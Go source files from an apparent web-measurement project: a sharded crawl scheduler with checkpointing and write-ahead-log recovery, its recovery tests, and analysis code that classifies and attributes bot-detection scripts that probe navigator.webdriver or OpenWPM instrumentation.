	st.flight.End(st.crawlSpan, "crawl", st.virtualMS,
		telemetry.L("completed", fmt.Sprint(completed)))
	st.crawlSpan = 0
}

// Checkpoint is a whole scheduled crawl's resumable state: one ShardState
// per worker. It is an in-process handle — storages and recorders are live
// objects — so resumption means passing it back to Run in the same process.
type Checkpoint struct {
	Workers int
	Shards  []*ShardState
}

// Done is the number of sites completed across all shards.
func (cp *Checkpoint) Done() int {
	n := 0
	for _, st := range cp.Shards {
		n += st.Checkpoint.Done
	}
	return n
}

// CloseBackends closes every shard's storage backend (no-op for shards
// without one). Call it once the checkpoint is finished with — after a
// completed run, or when abandoning an interrupted one. The scheduler itself
// never closes backends: an interrupted checkpoint keeps its logs open so a
// resumed run can continue appending.
func (cp *Checkpoint) CloseBackends() error {
	var first error
	for _, st := range cp.Shards {
		if st == nil || st.Backend == nil {
			continue
		}
		if err := st.Backend.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}

// Complete reports whether every shard finished its slice.
func (cp *Checkpoint) Complete() bool {
	for _, st := range cp.Shards {
		if st.Checkpoint.Done < len(st.Shard.Sites) {
			return false
		}
	}
	return true
}

// Result is a scheduled crawl's merged output.
type Result struct {
	Sites   int
	Workers int
	// Interrupted is set when Stop ended the run early; only Checkpoint,
	// FaultKinds and the partial Trace are populated then, and passing
	// Checkpoint back via Crawl.Resume finishes the crawl.
	Interrupted bool
	// Checkpoint is the final per-shard state (also set on completed runs,
	// where Complete() is true).
	Checkpoint *Checkpoint

	// Storage is the merged measurement database, shard storages appended
	// in shard order — byte-identical digests across worker counts.
	Storage *openwpm.Storage
	// Report is the crawl accounting, re-folded from per-site outcomes in
	// global site order.
	Report *openwpm.CrawlReport
	// Bundle is the merged, sealed execution bundle when Crawl.Record was
	// set.
	Bundle *bundle.Bundle
	// Metrics is the final whole-crawl telemetry snapshot when
	// Crawl.Telemetry was set.
	Metrics *telemetry.Snapshot
	// Trace is the merged span stream when the crawl ran with telemetry:
	// per-shard flight-recorder events concatenated in shard order with
	// span ids renumbered to be globally unique (telemetry.MergeTraces).
	// Byte-identical across cold, in-process-resumed and WAL-recovered runs
	// of the same crawl at the same worker count.
	Trace []telemetry.SpanEvent
	// FaultKinds tallies injected faults by kind across all shards, when
	// the shard transports expose CountsByName (the faults injector does).
	FaultKinds map[string]int
}

// faultCounter is the optional capability sched sniffs off a shard's raw
// transport to tally injected faults without importing the faults package.
type faultCounter interface{ CountsByName() map[string]int }

// Run executes a sharded crawl: partition, crawl every shard on its own
// worker, then merge. The error path is loud — a failed bundle finalisation
// or merge fails the run instead of silently dropping the archive.
func Run(c Crawl) (*Result, error) {
	crawlGCTuneOn()
	defer crawlGCTuneOff()
	workers := Workers(c.Workers, len(c.Sites))
	cp := c.Resume
	if cp == nil {
		cp = &Checkpoint{Workers: workers}
		for _, sh := range Partition(c.Sites, workers) {
			cp.Shards = append(cp.Shards, &ShardState{Shard: sh, Checkpoint: &openwpm.Checkpoint{}})
		}
	} else {
		cp.repairLostShards(c.Sites, workers)
		if err := cp.validate(c.Sites, workers); err != nil {
			return nil, err
		}
	}
	total := len(c.Sites)
	every := c.ProgressEvery
	if every <= 0 {
		every = 1000
	}
	c.Telemetry.Gauge("crawl_progress_total").Set(int64(total))
	gDone := c.Telemetry.Gauge("crawl_progress_done")
	var done atomic.Int64
	done.Store(int64(cp.Done()))
	gDone.Set(done.Load())

	var wg sync.WaitGroup
	for _, st := range cp.Shards {
		if st.Checkpoint.Done >= len(st.Shard.Sites) {
			// shard already complete (resume). A WAL-recovered shard that
			// finished before the interrupt still has its crawl span open —
			// the end event postdated its last checkpoint — so close it here.
			st.closeCrawlSpan()
			continue
		}
		wg.Add(1)
		go func(st *ShardState) {
			defer wg.Done()
			cfg := c.Config(st.Shard)
			raw := cfg.Transport
			if st.Backend == nil && c.Backend != nil {
				st.Backend = c.Backend(st.Shard)
			}
			cfg.Backend = st.Backend
			if c.Record {
				if st.Recorder == nil {
					st.Recorder = bundle.NewRecorder(c.BundleMeta)
					if sp, ok := st.Backend.(bundle.Spool); ok {
						st.Recorder.Spool = sp
					}
				}
				cfg.Recorder = st.Recorder
			}
			if cfg.Telemetry.Enabled() {
				// Spans move to a shard-local flight recorder: a ring shared
				// across workers interleaves events in scheduling order, so
				// no deterministic whole-crawl trace could be cut from it.
				// Metrics and logs stay shared (atomic, order-independent).
				if st.flight == nil {
					st.flight = telemetry.NewFlight(telemetry.DefaultFlightCapacity)
				}
				if c.SpanTap != nil {
					shard := st.Shard.Index
					st.flight.SetTap(func(ev telemetry.SpanEvent) { c.SpanTap(shard, ev) })
				}
				cfg.Telemetry = &telemetry.Telemetry{
					Metrics: cfg.Telemetry.Metrics,
					Spans:   st.flight,
					Logs:    cfg.Telemetry.Logs,
				}
			}
			tm := openwpm.NewTaskManager(cfg)
			st.cfg, st.cfgValid = tm.Cfg, true
			// a resumed shard continues the interrupted run's virtual clock
			// and (when one is open) its crawl span, so the trace carries on
			// instead of restarting at t=0 under a second root
			tm.SetVirtualMS(st.virtualMS)
			if st.crawlSpan != 0 {
				tm.AdoptCrawlSpan(st.crawlSpan)
			}
			hooks := openwpm.CrawlHooks{
				OnSite: func(o openwpm.SiteOutcome) {
					st.Outcomes = append(st.Outcomes, o)
					// mirror VisitSite's accumulation exactly (same additions
					// in the same order) so a resume seeds bit-identical floats
					st.virtualMS += (o.VirtualSeconds + o.BackoffSeconds) * 1000
					if st.Backend != nil {
						var rs, ts []byte
						if st.Recorder != nil {
							rs = st.Recorder.StateJSON()
						}
						if st.flight != nil {
							var events []telemetry.SpanEvent
							events, st.traceCursor = st.flight.EventsSince(st.traceCursor)
							ts, _ = json.Marshal(telemetry.FlightCheckpoint{
								Events: events,
								NextID: st.flight.NextID(),
								Crawl:  tm.CrawlSpan(),
							})
						}
						// append failures are already counted by the backend
						// (writer stats + telemetry); the crawl keeps going
						_ = st.Backend.AppendCheckpoint(o, rs, ts)
					}
					n := done.Add(1)
					gDone.Set(n)
					if c.OnProgress != nil && n%int64(every) == 0 && n != int64(total) {
						c.OnProgress(int(n), total)
					}
				},
			}
			if c.Stop != nil {
				hooks.Stop = func() bool {
					select {
					case <-c.Stop:
						return true
					default:
						return false
					}
				}
			}
			tm.CrawlFromHooked(st.Shard.Sites, st.Checkpoint, hooks)
			// nonzero only when Stop broke the loop: the open span awaits the
			// resuming TaskManager
			st.crawlSpan = tm.CrawlSpan()
			if st.Storage == nil {
				st.Storage = tm.Storage
			} else {
				// resumed shard: a fresh TaskManager crawled the remainder;
				// append its records after the previous run's
				st.Storage.Merge(tm.Storage)
			}
			if st.Backend != nil {
				// one commit per worker exit; failures are counted by the
				// backend itself
				_ = st.Backend.Flush()
			}
			if fc, ok := raw.(faultCounter); ok {
				if st.FaultKinds == nil {
					st.FaultKinds = map[string]int{}
				}
				for k, n := range fc.CountsByName() {
					st.FaultKinds[k] += n
				}
			}
		}(st)
	}
	wg.Wait()

	res := &Result{Sites: total, Workers: workers, Checkpoint: cp, FaultKinds: map[string]int{}}
	for _, st := range cp.Shards {
		for k, n := range st.FaultKinds {
			res.FaultKinds[k] += n
		}
	}
	// merged trace: shard flight streams concatenated in shard order, span
	// ids renumbered to be globally unique. Interrupted runs merge too — a
	// partial trace (open crawl spans and all) is still worth inspecting.
	var traceParts [][]telemetry.SpanEvent
	for _, st := range cp.Shards {
		if st.flight != nil {
			traceParts = append(traceParts, st.flight.Events())
		}
	}
	if len(traceParts) > 0 {
		res.Trace = telemetry.MergeTraces(traceParts...)
	}
	if !cp.Complete() {
		res.Interrupted = true
		return res, nil
	}

	// merge stage: contiguous partitioning makes shard order the global site
	// order, so appending storages and re-folding outcomes shard by shard
	// reproduces the serial crawl's bytes exactly
	storage := openwpm.NewStorage()
	report := openwpm.NewCrawlReport()
	for _, st := range cp.Shards {
		if st.Storage != nil {
			storage.Merge(st.Storage)
		}
		for _, o := range st.Outcomes {
			report.AbsorbOutcome(o)
		}
		if st.Checkpoint.Report != nil {
			report.DroppedWrites += st.Checkpoint.Report.DroppedWrites
		}
	}
	res.Storage = storage
	res.Report = report
	if c.Telemetry.Enabled() {
		// one snapshot after every worker finished: the workers share the
		// registry, so per-shard snapshots would multiply-count the crawl.
		// Attached before bundle merging so the sealed archive embeds it —
		// unless DetachMetrics: a process-lifetime registry (the daemon's)
		// would make otherwise-identical artifacts digest-diverge.
		res.Metrics = c.Telemetry.Snapshot()
		if !c.DetachMetrics {
			report.Metrics = res.Metrics
		}
	}
	if c.Record {
		parts := make([]*bundle.Bundle, len(cp.Shards))
		for i, st := range cp.Shards {
			if st.Recorder == nil {
				st.Recorder = bundle.NewRecorder(c.BundleMeta)
			}
			if !st.cfgValid {
				// zero-site shard: no worker ran, archive the effective
				// configuration it would have used
				st.cfg = openwpm.NewTaskManager(c.Config(st.Shard)).Cfg
				st.cfgValid = true
			}
			b, err := st.Recorder.Finalize(st.cfg, st.Shard.Sites, st.Checkpoint.Report)
			if err != nil {
				return nil, fmt.Errorf("sched: finalize shard %d bundle: %w", st.Shard.Index, err)
			}
			parts[i] = b
		}
		merged, err := bundle.Merge(parts, report)
		if err != nil {
			return nil, fmt.Errorf("sched: merge shard bundles: %w", err)
		}
		res.Bundle = merged
	}
	if c.OnProgress != nil {
		// crawls whose site count is not a multiple of ProgressEvery still
		// report completion — exactly one final event, always
		c.OnProgress(total, total)
	}
	return res, nil
}

// repairLostShards rebuilds the identity of checkpoint shards whose WAL lost
// its metadata record (Recover marks them metaLost and knows only their
// index): the partition is deterministic, so the missing Start/Sites follow
// from the crawl being resumed. validate then checks the repaired shard like
// any other.
func (cp *Checkpoint) repairLostShards(sites []string, workers int) {
	var parts []Shard
	for _, st := range cp.Shards {
		if st == nil || !st.metaLost {
			continue
		}
		if parts == nil {
			parts = Partition(sites, workers)
		}
		if st.Shard.Index >= 0 && st.Shard.Index < len(parts) {
			st.Shard = parts[st.Shard.Index]
		}
	}
}

// validate checks a resume checkpoint against the crawl it claims to
// continue: same worker count and the same contiguous partition of the same
// site list.
func (cp *Checkpoint) validate(sites []string, workers int) error {
	if cp.Workers != workers {
		return fmt.Errorf("sched: resume with %d workers but checkpoint has %d — resharding a checkpoint is not supported", workers, cp.Workers)
	}
	if len(cp.Shards) != workers {
		return fmt.Errorf("sched: checkpoint has %d shards for %d workers", len(cp.Shards), workers)
	}
	next := 0
	for i, st := range cp.Shards {
		if st == nil || st.Checkpoint == nil {
			return fmt.Errorf("sched: checkpoint shard %d is incomplete", i)
		}
		if st.Shard.Start != next {
			return fmt.Errorf("sched: checkpoint shard %d starts at %d, want %d", i, st.Shard.Start, next)
		}
		for j, u := range st.Shard.Sites {
			if next+j >= len(sites) || sites[next+j] != u {
				return fmt.Errorf("sched: checkpoint shard %d site %d does not match the crawl's site list", i, j)
			}
		}
		next += len(st.Shard.Sites)
	}
	if next != len(sites) {
		return fmt.Errorf("sched: checkpoint covers %d sites, crawl has %d", next, len(sites))
	}
	return nil
}
