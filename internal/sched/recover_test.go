package sched_test

import (
	"sync"
	"testing"

	"gullible/internal/sched"
	"gullible/internal/wal"
	"gullible/internal/websim"
)

// truncateTail models a process killed mid-write: the shard log's final bytes
// — everything after frac of its total size — vanish, possibly mid-frame.
func truncateTail(t *testing.T, fs *wal.MemFS, frac float64) {
	t.Helper()
	names, err := fs.List()
	if err != nil {
		t.Fatal(err)
	}
	var total int64
	for _, n := range names {
		total += fs.Size(n)
	}
	cut := int64(float64(total) * frac)
	var cum int64
	cutting := false
	for _, n := range names {
		size := fs.Size(n)
		if cutting {
			if err := fs.Remove(n); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if cut <= cum+size {
			if err := fs.Truncate(n, cut-cum); err != nil {
				t.Fatal(err)
			}
			cutting = true
		}
		cum += size
	}
}

// TestKillAndRecoverFromWAL is the tentpole acceptance test: a recorded crawl
// with WAL backends is interrupted, the in-process checkpoint is thrown away
// entirely (a cooperative stop halts the goroutines; discarding every live
// object and truncating the logs at an arbitrary byte models the kill), the
// crawl is rebuilt from the on-disk WALs alone, and the resumed run's merged
// storage digest, crawl report and sealed bundle must be byte-identical to an
// uninterrupted run — at more than one worker count.
func TestKillAndRecoverFromWAL(t *testing.T) {
	const sites = 12
	for _, workers := range []int{1, 3} {
		workers := workers
		t.Run(map[int]string{1: "serial", 3: "sharded"}[workers], func(t *testing.T) {
			urls := websim.Tranco(sites)
			meta := map[string]string{"scenario": "wal-recover"}

			reference, err := sched.Run(sched.Crawl{
				Sites:      urls,
				Workers:    workers,
				Config:     crawlConfig(websim.New(websim.Options{Seed: 5, NumSites: sites}), nil),
				Record:     true,
				BundleMeta: meta,
			})
			if err != nil {
				t.Fatal(err)
			}

			fss := make([]*wal.MemFS, workers)
			for i := range fss {
				fss[i] = wal.NewMemFS()
			}
			backend := sched.WALBackend(func(sh sched.Shard) wal.FS { return fss[sh.Index] },
				workers, true, meta, wal.Options{})

			stop := make(chan struct{})
			var once sync.Once
			crawl := sched.Crawl{
				Sites:         urls,
				Workers:       workers,
				Config:        crawlConfig(websim.New(websim.Options{Seed: 5, NumSites: sites}), nil),
				Record:        true,
				BundleMeta:    meta,
				Backend:       backend,
				ProgressEvery: 1,
				Stop:          stop,
				OnProgress: func(done, total int) {
					if done >= 3 {
						once.Do(func() { close(stop) })
					}
				},
			}
			first, err := sched.Run(crawl)
			if err != nil {
				t.Fatal(err)
			}
			if !first.Interrupted {
				t.Fatalf("crawl was not interrupted (done %d/%d)", first.Checkpoint.Done(), sites)
			}
			doneAtStop := first.Checkpoint.Done()

			// the kill: every in-process object is gone, and each log loses
			// its tail at an arbitrary byte point (mid-frame included)
			first = nil
			for _, fs := range fss {
				truncateTail(t, fs, 0.7)
			}

			walFSs := make([]wal.FS, workers)
			for i, fs := range fss {
				walFSs[i] = fs
			}
			recovered, recoveries, err := sched.Recover(walFSs, wal.Options{})
			if err != nil {
				t.Fatalf("recover from WALs: %v", err)
			}
			if got := recovered.Done(); got > doneAtStop {
				t.Fatalf("recovery invented progress: %d done, crawl had reached %d", got, doneAtStop)
			}
			for _, r := range recoveries {
				if r.MetaLost {
					// this shard's log lost even its metadata record: it
					// restarts from scratch, there is no backend to compare
					continue
				}
				if a, b := r.Storage.Digest(), r.Backend.Digest(); a != b {
					t.Fatalf("shard %d: recovered storage digest %s != replayed WAL digest %s", r.Meta.Index, a, b)
				}
			}

			crawl.Stop = nil
			crawl.OnProgress = nil
			crawl.ProgressEvery = 0
			crawl.Config = crawlConfig(websim.New(websim.Options{Seed: 5, NumSites: sites}), nil)
			crawl.Resume = recovered
			resumed, err := sched.Run(crawl)
			if err != nil {
				t.Fatal(err)
			}
			if resumed.Interrupted {
				t.Fatal("resumed run did not complete")
			}
			if a, b := reference.Storage.Digest(), resumed.Storage.Digest(); a != b {
				t.Fatalf("recovered+resumed storage digest %s differs from uninterrupted %s", b, a)
			}
			if a, b := reference.Report.String(), resumed.Report.String(); a != b {
				t.Fatalf("recovered+resumed report diverges:\nuninterrupted:\n%s\nresumed:\n%s", a, b)
			}
			if reference.Bundle.Digest != resumed.Bundle.Digest {
				t.Fatal("recovered+resumed bundle digest differs from uninterrupted run")
			}
			if err := resumed.Bundle.Verify(); err != nil {
				t.Fatalf("recovered bundle fails verification: %v", err)
			}
			// no revisits in the durable world either: one front visit per site
			front := map[string]int{}
			for _, v := range resumed.Storage.Visits {
				if !v.Subpage {
					front[v.Site]++
				}
			}
			for _, u := range urls {
				if front[u] != 1 {
					t.Fatalf("site %s has %d front-page visit rows after recovery, want 1", u, front[u])
				}
			}
			if err := resumed.Checkpoint.CloseBackends(); err != nil {
				t.Fatalf("closing recovered backends: %v", err)
			}
		})
	}
}

// TestRecoverShardMetaLost models the worst per-shard damage a kill can
// leave: one shard's log torn inside its very first frame (the metadata
// record never became durable) and another's gone entirely. Neither shard
// made durable progress, so recovery must not fail the crawl — it identifies
// the lost shards by elimination, resets their logs, restarts them from site
// zero, and the resumed run still matches an uninterrupted one byte for byte.
func TestRecoverShardMetaLost(t *testing.T) {
	const sites, workers = 12, 3
	urls := websim.Tranco(sites)
	meta := map[string]string{"scenario": "wal-meta-lost"}

	reference, err := sched.Run(sched.Crawl{
		Sites:      urls,
		Workers:    workers,
		Config:     crawlConfig(websim.New(websim.Options{Seed: 5, NumSites: sites}), nil),
		Record:     true,
		BundleMeta: meta,
	})
	if err != nil {
		t.Fatal(err)
	}

	fss := make([]*wal.MemFS, workers)
	for i := range fss {
		fss[i] = wal.NewMemFS()
	}
	backend := sched.WALBackend(func(sh sched.Shard) wal.FS { return fss[sh.Index] },
		workers, true, meta, wal.Options{})

	stop := make(chan struct{})
	var once sync.Once
	crawl := sched.Crawl{
		Sites:         urls,
		Workers:       workers,
		Config:        crawlConfig(websim.New(websim.Options{Seed: 5, NumSites: sites}), nil),
		Record:        true,
		BundleMeta:    meta,
		Backend:       backend,
		ProgressEvery: 1,
		Stop:          stop,
		OnProgress: func(done, total int) {
			if done >= 3 {
				once.Do(func() { close(stop) })
			}
		},
	}
	first, err := sched.Run(crawl)
	if err != nil {
		t.Fatal(err)
	}
	if !first.Interrupted {
		t.Fatal("crawl was not interrupted")
	}
	doneAtStop := first.Checkpoint.Done()
	first = nil

	// the kill: shard 1's log is cut mid-way through its first frame, shard
	// 2's vanishes outright; shard 0 keeps whatever it had
	names, err := fss[1].List()
	if err != nil {
		t.Fatal(err)
	}
	for i, n := range names {
		if i == 0 {
			if err := fss[1].Truncate(n, 3); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := fss[1].Remove(n); err != nil {
			t.Fatal(err)
		}
	}
	names, err = fss[2].List()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		if err := fss[2].Remove(n); err != nil {
			t.Fatal(err)
		}
	}

	walFSs := make([]wal.FS, workers)
	for i, fs := range fss {
		walFSs[i] = fs
	}
	recovered, recoveries, err := sched.Recover(walFSs, wal.Options{})
	if err != nil {
		t.Fatalf("recover with two unrecoverable shard logs: %v", err)
	}
	if got := recovered.Done(); got > doneAtStop {
		t.Fatalf("recovery invented progress: %d done, crawl had reached %d", got, doneAtStop)
	}
	var lostIdx []int
	for _, r := range recoveries {
		if r.MetaLost {
			lostIdx = append(lostIdx, r.Meta.Index)
			continue
		}
		if r.Meta.Index != 0 {
			t.Fatalf("shard %d recovered metadata from a destroyed log", r.Meta.Index)
		}
	}
	if len(lostIdx) != 2 || lostIdx[0] != 1 || lostIdx[1] != 2 {
		t.Fatalf("MetaLost shards = %v, want [1 2]", lostIdx)
	}

	crawl.Stop = nil
	crawl.OnProgress = nil
	crawl.ProgressEvery = 0
	crawl.Config = crawlConfig(websim.New(websim.Options{Seed: 5, NumSites: sites}), nil)
	crawl.Resume = recovered
	resumed, err := sched.Run(crawl)
	if err != nil {
		t.Fatal(err)
	}
	if resumed.Interrupted {
		t.Fatal("resumed run did not complete")
	}
	if a, b := reference.Storage.Digest(), resumed.Storage.Digest(); a != b {
		t.Fatalf("recovered+resumed storage digest %s differs from uninterrupted %s", b, a)
	}
	if a, b := reference.Report.String(), resumed.Report.String(); a != b {
		t.Fatalf("recovered+resumed report diverges:\nuninterrupted:\n%s\nresumed:\n%s", a, b)
	}
	if reference.Bundle.Digest != resumed.Bundle.Digest {
		t.Fatal("recovered+resumed bundle digest differs from uninterrupted run")
	}
	if err := resumed.Bundle.Verify(); err != nil {
		t.Fatalf("recovered bundle fails verification: %v", err)
	}

	// the restarted shards wrote fresh logs: a second recovery must now see
	// all three shards with metadata and full progress
	again, recoveries2, err := sched.Recover(walFSs, wal.Options{})
	if err != nil {
		t.Fatalf("second recovery after restart: %v", err)
	}
	for _, r := range recoveries2 {
		if r.MetaLost {
			t.Fatalf("shard %d still has no metadata after the restarted run", r.Meta.Index)
		}
	}
	if got := again.Done(); got != sites {
		t.Fatalf("second recovery sees %d/%d sites done", got, sites)
	}
	if err := resumed.Checkpoint.CloseBackends(); err != nil {
		t.Fatalf("closing recovered backends: %v", err)
	}
}
