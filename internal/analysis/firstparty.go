package analysis

import (
	"crypto/sha256"
	"encoding/hex"
	"regexp"
	"sort"
	"strings"
)

// First-party detector providers recognised by URL-path similarity
// (Appendix A, Table 12). "Unknown" is the third-largest cluster the paper
// could not attribute.
const (
	ProviderAkamai     = "Akamai"
	ProviderIncapsula  = "Incapsula"
	ProviderUnknown    = "Unknown"
	ProviderCloudflare = "Cloudflare"
	ProviderPerimeterX = "PerimeterX"
	ProviderNone       = ""
)

var (
	reUnknownHash = regexp.MustCompile(`/(assets|resources|public|static)/[0-9a-f]{30,36}(/|$)`)
	rePerimeterX  = regexp.MustCompile(`/[a-z0-9]{8}/init\.js$`)
	reCloudflare  = regexp.MustCompile(`/cdn-cgi/bm/cv/\d+/api\.js$`)
)

// AttributeFirstParty maps a first-party script URL path to its embedded
// provider, or ProviderNone.
func AttributeFirstParty(url string) string {
	path := url
	if i := strings.Index(path, "://"); i >= 0 {
		path = path[i+3:]
		if j := strings.IndexByte(path, '/'); j >= 0 {
			path = path[j:]
		} else {
			path = "/"
		}
	}
	switch {
	case strings.Contains(path, "/akam/11/"):
		return ProviderAkamai
	case strings.Contains(path, "_Incapsula_Resource"):
		return ProviderIncapsula
	case reCloudflare.MatchString(path):
		return ProviderCloudflare
	case rePerimeterX.MatchString(path):
		return ProviderPerimeterX
	case reUnknownHash.MatchString(path):
		return ProviderUnknown
	}
	return ProviderNone
}

// ScriptHash fingerprints script content for similarity clustering.
func ScriptHash(content string) string {
	sum := sha256.Sum256([]byte(content))
	return hex.EncodeToString(sum[:8])
}

// ClusterFirstParty groups first-party detector scripts by provider,
// combining content hashing with URL-path attribution. It returns
// provider → number of distinct sites.
func ClusterFirstParty(scripts []FirstPartyScript) map[string]int {
	sites := map[string]map[string]bool{}
	// pass 1: URL attribution; remember content hashes per provider
	hashProvider := map[string]string{}
	for _, s := range scripts {
		p := AttributeFirstParty(s.URL)
		if p == ProviderNone {
			continue
		}
		hashProvider[ScriptHash(s.Content)] = p
	}
	// pass 2: spread provider labels to identical content on other paths
	for _, s := range scripts {
		p := AttributeFirstParty(s.URL)
		if p == ProviderNone {
			p = hashProvider[ScriptHash(s.Content)]
		}
		if p == ProviderNone {
			continue
		}
		if sites[p] == nil {
			sites[p] = map[string]bool{}
		}
		sites[p][s.Site] = true
	}
	out := map[string]int{}
	for p, set := range sites {
		out[p] = len(set)
	}
	return out
}

// FirstPartyScript is a first-party detector script observed on a site.
type FirstPartyScript struct {
	Site    string // eTLD+1 of the including site
	URL     string
	Content string
}

// SortedProviders returns providers by descending site count.
func SortedProviders(counts map[string]int) []string {
	var out []string
	for p := range counts {
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool {
		if counts[out[i]] != counts[out[j]] {
			return counts[out[i]] > counts[out[j]]
		}
		return out[i] < out[j]
	})
	return out
}
