package analysis

import (
	"sort"
	"strings"

	"gullible/internal/openwpm"
)

// ScriptClass is the dynamic classification of a script.
type ScriptClass int

// Classes.
const (
	ClassNone ScriptClass = iota
	// ClassSeleniumDetector: the script intentionally probed
	// navigator.webdriver.
	ClassSeleniumDetector
	// ClassInconclusive: a property iterator whose fingerprint-surface
	// accesses may all be incidental (Sec. 4.1.3).
	ClassInconclusive
)

// DynamicScript aggregates recorded accesses for one script URL.
type DynamicScript struct {
	URL               string
	AccessedWebdriver bool
	OpenWPMProps      []string // marker properties the script read
	HoneyAccessed     int
	Iterator          bool // accessed every honey property
	Class             ScriptClass
	TopURLs           map[string]bool // sites the accesses happened on
}

// AnalyzeDynamic classifies scripts from recorded JS calls. honey is the set
// of honey property names active during the crawl; staticFlagged reports
// whether static analysis flagged the script (used to resolve iterators that
// also touch navigator.webdriver, Sec. 4.1.3).
func AnalyzeDynamic(calls []openwpm.JSCall, honey []string, staticFlagged func(scriptURL string) bool) []DynamicScript {
	honeySet := map[string]bool{}
	for _, h := range honey {
		honeySet[h] = true
	}
	byScript := map[string]*DynamicScript{}
	honeyHits := map[string]map[string]bool{}
	markerSeen := map[string]map[string]bool{}
	for _, c := range calls {
		if c.ScriptURL == "" {
			continue
		}
		ds := byScript[c.ScriptURL]
		if ds == nil {
			ds = &DynamicScript{URL: c.ScriptURL, TopURLs: map[string]bool{}}
			byScript[c.ScriptURL] = ds
			honeyHits[c.ScriptURL] = map[string]bool{}
			markerSeen[c.ScriptURL] = map[string]bool{}
		}
		ds.TopURLs[c.TopURL] = true
		switch {
		case c.Symbol == "Navigator.webdriver":
			ds.AccessedWebdriver = true
		case strings.HasPrefix(c.Symbol, "honey:"):
			name := strings.TrimPrefix(c.Symbol, "honey:")
			if honeySet[name] {
				honeyHits[c.ScriptURL][name] = true
			}
		case strings.HasPrefix(c.Symbol, "window."):
			name := strings.TrimPrefix(c.Symbol, "window.")
			for _, m := range OpenWPMMarkers {
				if name == m && !markerSeen[c.ScriptURL][m] {
					markerSeen[c.ScriptURL][m] = true
					ds.OpenWPMProps = append(ds.OpenWPMProps, m)
				}
			}
		}
	}

	var out []DynamicScript
	for url, ds := range byScript {
		ds.HoneyAccessed = len(honeyHits[url])
		ds.Iterator = len(honey) > 0 && ds.HoneyAccessed >= len(honey)
		ds.Class = classify(ds, staticFlagged)
		out = append(out, *ds)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].URL < out[j].URL })
	return out
}

// classify implements the paper's decision: non-iterators that probe
// webdriver (or OpenWPM markers) are detectors; iterators are inconclusive
// unless static analysis confirms intent.
func classify(ds *DynamicScript, staticFlagged func(string) bool) ScriptClass {
	touched := ds.AccessedWebdriver || len(ds.OpenWPMProps) > 0
	if !touched {
		return ClassNone
	}
	if !ds.Iterator {
		return ClassSeleniumDetector
	}
	if staticFlagged != nil && staticFlagged(ds.URL) {
		return ClassSeleniumDetector
	}
	return ClassInconclusive
}
