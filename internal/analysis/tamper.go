// AST-grade tamper detection. Where static.go's Table 13 patterns match
// substrings of deobfuscated source, this file parses scripts with minjs and
// walks the AST with constant folding of string construction, so probes the
// paper shows evading regexes — navigator["web"+"driver"], hex/unicode
// escapes, String.fromCharCode, alias chains — are still attributed to the
// detection primitive they implement.
package analysis

import (
	"sort"
	"strings"

	"gullible/internal/minjs"
)

// Rule identifiers, one per detection primitive from the paper.
const (
	// RuleWebdriverProbe: a read of navigator.webdriver, however the
	// property name or receiver is constructed (Sec. 3.1).
	RuleWebdriverProbe = "webdriver-probe"
	// RuleOpenWPMMarker: a reference to a property unique to OpenWPM's JS
	// instrument (Sec. 3.2, the OpenWPMMarkers set).
	RuleOpenWPMMarker = "openwpm-marker"
	// RuleDescriptorRead: Object.getOwnPropertyDescriptor on a potentially
	// instrumented API — getters replaced by instrumentation are visible in
	// the descriptor (Sec. 3.3).
	RuleDescriptorRead = "descriptor-read"
	// RuleToStringLeak: comparing or searching a function's toString output
	// for "[native code]", or reaching Function.prototype.toString
	// indirectly, to unmask wrapped natives (Sec. 3.3).
	RuleToStringLeak = "tostring-leak"
	// RuleStackIntrospection: reading .stack off a caught or constructed
	// Error to spot instrumentation frames (Sec. 3.3).
	RuleStackIntrospection = "stack-introspection"
	// RuleHoneyEnumeration: enumerating navigator/window properties, the
	// access pattern that trips every honey property at once (Sec. 4.1.2).
	RuleHoneyEnumeration = "honey-enumeration"
	// RulePrototypeWalk: Object.getPrototypeOf inside a loop — walking the
	// prototype chain looking for tampered links.
	RulePrototypeWalk = "prototype-walk"
)

// AllRules lists every rule ID in reporting order.
var AllRules = []string{
	RuleWebdriverProbe,
	RuleOpenWPMMarker,
	RuleDescriptorRead,
	RuleToStringLeak,
	RuleStackIntrospection,
	RuleHoneyEnumeration,
	RulePrototypeWalk,
}

// Finding is one rule hit with its source position.
type Finding struct {
	Rule   string `json:"rule"`
	Line   int    `json:"line"`
	Detail string `json:"detail,omitempty"`
}

// TamperReport is the static analysis of one script.
type TamperReport struct {
	// Parsed is false when minjs could not parse the script and the legacy
	// regex pass supplied the findings instead (Detail "regex-fallback").
	Parsed   bool      `json:"parsed"`
	Findings []Finding `json:"findings,omitempty"`
}

// Has reports whether any finding matched the given rule.
func (r TamperReport) Has(rule string) bool {
	for _, f := range r.Findings {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

// Rules returns the distinct rule IDs hit, in AllRules order.
func (r TamperReport) Rules() []string {
	var out []string
	for _, rule := range AllRules {
		if r.Has(rule) {
			out = append(out, rule)
		}
	}
	return out
}

// Analyze parses src and runs the tamper rule set over its AST. Sources the
// parser rejects (or that panic it) fall back to the legacy regex pass, so
// Analyze never fails: it degrades to exactly the pre-AST behaviour.
func Analyze(src string) (rep TamperReport) {
	return AnalyzeProgram(src, nil)
}

// AnalyzeProgram is Analyze given an already-parsed program for src, sparing
// the second parse when the execution path has one cached. The report is
// identical either way: findings carry only rule, line and detail, none of
// which depend on the script name the program was parsed under. prog may be
// nil, in which case src is parsed here.
func AnalyzeProgram(src string, prog *minjs.Program) (rep TamperReport) {
	defer func() {
		if recover() != nil {
			rep = fallbackReport(src)
		}
	}()
	if prog == nil {
		var err error
		prog, err = minjs.Parse(src, "static-analysis")
		if err != nil {
			return fallbackReport(src)
		}
	}
	w := newTamperWalker(prog)
	return TamperReport{Parsed: true, Findings: w.run()}
}

// fallbackReport applies the legacy regex pass (static.go) to an unparsable
// script. Positions are unknown; Detail marks the downgrade.
func fallbackReport(src string) TamperReport {
	clean := Deobfuscate(src)
	var r TamperReport
	if strings.Contains(clean, "navigator.webdriver") || reBracketWebdriver.MatchString(clean) {
		r.Findings = append(r.Findings, Finding{Rule: RuleWebdriverProbe, Detail: "regex-fallback"})
	}
	for _, m := range OpenWPMMarkers {
		if strings.Contains(clean, m) {
			r.Findings = append(r.Findings, Finding{Rule: RuleOpenWPMMarker, Detail: m})
		}
	}
	return r
}

